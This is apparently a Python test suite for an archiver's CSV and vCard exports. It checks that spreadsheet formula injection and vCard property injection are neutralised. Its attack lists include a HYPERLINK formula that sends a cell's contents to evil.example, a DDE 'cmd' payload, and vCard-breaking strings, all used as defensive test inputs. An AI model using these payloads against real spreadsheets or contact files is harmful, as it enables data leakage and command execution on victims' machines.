"""Exports for other programs are inert (issue 11.7): a CSV cell never starts a formula, a
vCard value never starts a property.

Property tests (hypothesis) feed the neutralisers text built from what attackers use:
leading white space of every kind, invisible format characters, separators, the formula
characters in their ASCII, full-width and small forms; then the real export of a real
archive is checked with the same attacks. The checks here read the output as the most
liberal reader would: a CSV parsed with each separator a spreadsheet may pick, a vCard
split into lines wherever Python's ``str.splitlines`` would split.
"""

from __future__ import annotations

import csv
import io
import os
import re
import unicodedata

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from archiver.views import audience
from archiver.inert import csv_cell, vcard_text
from archiver.records import Membership, Person, Snapshot

SETTINGS = settings(max_examples=int(os.environ.get("INERT_EXAMPLES", 300)), deadline=None, suppress_health_check=[HealthCheck.too_slow])

# What a spreadsheet may skip before a cell's content (spaces of every kind, invisible
# characters, controls, separators), listed here by hand, apart from archiver.inert.
SKIPPED = (" \t\n\r\v\f\x00\x1b\x85\xa0\u1680\u2000\u2003\u2007\u200a\u200b\u200c\u200d\u200e\u2028\u2029"
           "\u202f\u205f\u2060\u3000\ufeff,;|\"\uff0c\uff1b\uff5c\ufe50\ufe54\uff02")
# What starts a formula, in the forms a spreadsheet may normalise.
FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212\u207a\u207c\u208a\u208b"
ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", " =1+1", ";=cmd|' /C calc'!A0", "\t+1+1", ",@SUM(A1)",
    "-2+3", "+1", "@SUM(1)", "\u00a0=1", "\u2003=1", "\u200b=1", "\ufeff=1", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20SUM(1)", "\x00=1", " ; \t=1", "|=1", "\u22121", "\"=1", "\"\"=1",
]
# Formulas after a separator or line break inside the value: a reader splitting there
# (or losing the quoting) would start a cell with them.
INNER_ATTACKS = ["Bob;=1+1", "Bob\n=1+1", "\r\n=1", "a,b|c\t@d", "x;\"\"=1", "ok; ;-1", "Ann\u2028\r=1"]


def spreadsheet_sees_formula(cell: str) -> bool:
    """The test's own reading: skip what a spreadsheet may skip, then look at the first
    character after Unicode compatibility normalisation. Text that looks like a negative
    number ("-5") counts: in a text column it is text, and "-5+cmd|…" looks alike."""
    for char in cell:
        normal = unicodedata.normalize("NFKC", char)
        if char in SKIPPED or normal in SKIPPED or char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs"):
            continue
        return normal[:1] in set("=+-@\u2212")
    return False


def any_cell_sees_formula(value: str) -> bool:
    """Cut ``value`` wherever some reader may start a new cell (a separator it may be
    told to use, a line break): does any piece start a formula?"""
    return any(spreadsheet_sees_formula(piece) for piece in re.split(r"[,;|\t\r\n]", value) + [value])


hostile_text = st.builds(
    lambda prefix, start, rest: prefix + start + rest,
    st.text(st.sampled_from(SKIPPED), max_size=4),
    st.text(st.sampled_from(FORMULA), max_size=2),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=12),
)
hostile_text = st.lists(hostile_text, min_size=1, max_size=3).map("".join) | st.text(
    st.characters(exclude_categories=("Cs",)), max_size=20)


def csv_text(rows: list[list]) -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return out.getvalue()


@SETTINGS
@given(st.lists(st.tuples(hostile_text, hostile_text, st.integers(0, 10**6),
                          st.floats(min_value=0, allow_nan=False, allow_infinity=False), hostile_text),
                min_size=1, max_size=4))
def test_a_parsed_csv_cell_never_starts_a_formula(rows):
    """Rows shaped like the audience export's: text first, then text and numbers (its
    numeric columns, counts and scores, are never negative)."""
    text = csv_text([list(r) for r in rows])
    # Read with each separator a spreadsheet may choose: no cell it gets is a formula.
    for delimiter in (",", ";", "\t", "|"):
        for parsed in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in parsed:
                assert not spreadsheet_sees_formula(cell), (delimiter, cell)
    # Read as written (","): text comes back as it was, or with apostrophes added, only
    # when some reading would have found a formula; numbers come back as numbers,
    # negative ones too.
    parsed_rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed_rows) == len(rows)
    for parsed, row in zip(parsed_rows, rows):
        for cell, value in zip(parsed, row):
            if isinstance(value, str):
                assert not any_cell_sees_formula(cell)
                assert cell.replace("'", "") == value.replace("'", "")
                assert (cell != value) == any_cell_sees_formula(value)
            else:
                assert cell == repr(value) if isinstance(value, float) else cell == str(value)


def test_each_known_attack_is_neutralised_and_ordinary_values_are_not():
    for attack in ATTACKS:
        safe = csv_cell(attack)
        assert safe != attack and not any_cell_sees_formula(safe), attack
        assert safe.replace("'", "") == attack.replace("'", "")
    assert csv_cell("=1") == "'=1" and csv_cell(" =1") == "' =1" and csv_cell(";=1") == ";'=1"
    assert [csv_cell(a) for a in INNER_ATTACKS] == [
        "Bob;'=1+1", "Bob\n'=1+1", "\r\n'=1", "a,b|c\t'@d", "x;'\"\"=1", "ok; ;'-1", "Ann\u2028\r'=1"]
    for ordinary in ("Ann", "ann.ig", "https://example.org/@ann", "O'Brien", "5 stars", "", "100% cotton",
                     "\u00e9t\u00e9", "\u2014 quiet"):
        assert csv_cell(ordinary) == ordinary
    # Numeric columns hold numbers: never changed, and written bare (QUOTE_NONNUMERIC),
    # so a spreadsheet reads -3 as the number -3.
    for number in (-3, -0.5, 0, 12, 1e-7):
        assert csv_cell(number) == number
    assert csv_text([["-3", -3, -0.5]]) == "\"'-3\",-3,-0.5\r\n"   # text "-3" is text


# -- vCard ---------------------------------------------------------------------------------------

BREAKS = "\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029"
vcard_hostile = st.text(st.one_of(st.sampled_from(BREAKS + "\x00\t\\,;:\x7f\x1f\x9f" + "BEGIN:VCARD END"),
                                  st.characters(exclude_categories=("Cs",))), max_size=30)


def properties(text: str) -> list[str]:
    """Property names as the most liberal reader finds them: lines split wherever
    ``str.splitlines`` splits, folded lines (leading space or tab) joined."""
    lines: list[str] = []
    for line in text.splitlines():
        if line[:1] in (" ", "\t") and lines:
            lines[-1] += line[1:]
        else:
            lines.append(line)
    names = []
    for line in lines:
        match = re.match(r"([A-Za-z0-9-]+)[;:]", line)
        assert match, line
        names.append(match.group(1).upper())
    return names


def unescape(value: str) -> str:
    return re.sub(r"\\(.)", lambda m: "\n" if m.group(1) in "nN" else m.group(1), value)


def person_dict(name, handles, urls):
    return {"person_key": "tiktok:1", "display_name": name, "handles": "; ".join(f"tiktok:@{h}" for h in handles),
            "_handles": [("tiktok", h) for h in handles], "_urls": [("tiktok", u) for u in urls],
            "follower_since": None, "connected_since": None, "lost_at": None, "last_interaction": None,
            "comment_count": 0,
            "engagement_score": 0.0}


@SETTINGS
@given(vcard_hostile.filter(str.strip), st.lists(vcard_hostile, max_size=2),
       st.lists(st.sampled_from(["https://example.org/", "http://a.example/?q=", ""]).flatmap(
           lambda start: vcard_hostile.map(lambda rest: start + rest)), max_size=2))
def test_a_parsed_vcard_has_exactly_the_properties_written(name, handles, urls):
    from archiver.views.web import web_link

    card = audience._vcard(person_dict(name, handles, urls))
    links = [u for u in urls if web_link(u)]   # only http(s) links become URL properties
    expected = ["BEGIN", "VERSION", "FN", "N"] + (["NICKNAME"] if handles else []) + ["URL"] * len(links) + [
        "NOTE", "UID", "END"]
    assert properties(card) == expected
    # The strict reading (RFC 6350: CRLF only, unfold "CRLF + one space") agrees, and the
    # name reads back as written, its line breaks as "\n", other controls gone.
    unfolded = card.replace("\r\n ", "")
    lines = unfolded.split("\r\n")[:-1]
    assert [re.match(r"[A-Z-]+", line).group(0) for line in lines] == expected
    fn = next(line for line in lines if line.startswith("FN:"))[3:]
    want = re.sub("\r\n|[" + BREAKS + "]", "\n", name).replace("\t", " ")
    want = "".join(c for c in want if c == "\n" or unicodedata.category(c) != "Cc")
    assert unescape(fn) == want


def test_vcard_text_escapes_every_separator():
    assert vcard_text("a\u2028b\u2029c\x85d\ve\ff\x00g\r\nh\ri\nj") == "a\\nb\\nc\\nd\\ne\\nfg\\nh\\ni\\nj"
    assert vcard_text("x\\y,z;w\tv") == "x\\\\y\\,z\\;w v"


# -- the real export -----------------------------------------------------------------------------


def test_the_audience_export_of_hostile_names_is_inert(archive):
    from archiver.archive.writer import ArchiveWriter

    members = [Membership(Person(f"p{i}", handle=f"h{i}{attack}", display_name=attack,
                                 url=f"https://example.org/{i}{attack}"))
               for i, attack in enumerate(ATTACKS + INNER_ATTACKS + ["Line\u2028BEGIN:VCARD", "x\rEND:VCARD\nFN:evil"])]
    with archive.writing():
        ArchiveWriter(archive.db, platform="tiktok", account_id="tiktok:main", source="api").write_snapshot(
            Snapshot("followers", "2024-05-01T00:00:00Z", members))

    out = io.StringIO(newline="")
    assert audience.export_people(archive.db, out, now="2024-06-01T00:00:00Z") == len(members)
    for delimiter in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter):
            assert not any(spreadsheet_sees_formula(cell) for cell in row), (delimiter, row)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    from archiver.archive.text import without_nul

    assert {r["display_name"] for r in rows} == {csv_cell(without_nul(a)) for a in ATTACKS + INNER_ATTACKS} | {
        "Line\u2028BEGIN:VCARD", "x\rEND:VCARD\nFN:evil"}
    assert all(not any_cell_sees_formula(cell) for row in rows for cell in row.values())

    cards = io.StringIO()
    audience.export_people(archive.db, cards, fmt="vcf", now="2024-06-01T00:00:00Z")
    names = properties(cards.getvalue())
    assert names.count("BEGIN") == names.count("END") == names.count("FN") == len(members)
    from archiver.views.web import web_link

    assert names.count("NICKNAME") == len(members)
    assert names.count("URL") == sum(1 for m in members if web_link(without_nul(m.person.url))) > 0
